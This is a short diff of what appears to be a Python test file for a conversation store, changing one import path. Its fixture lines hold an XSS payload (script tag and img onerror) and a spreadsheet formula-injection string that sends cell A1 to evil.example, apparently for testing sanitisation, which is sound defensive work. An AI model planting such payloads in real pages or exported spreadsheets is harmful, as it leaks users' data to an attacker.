@@ -5,7 +5,7 @@ from __future__ import annotations
 from datetime import datetime, timedelta
 from typing import Any
 
-from storage.store import Store
+from storage.conversations.store import Store
 
 HOSTILE_COMMENT = '<script>window.__pwned = true</script><img src=x onerror="window.__pwned=true"> too hot'
 FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
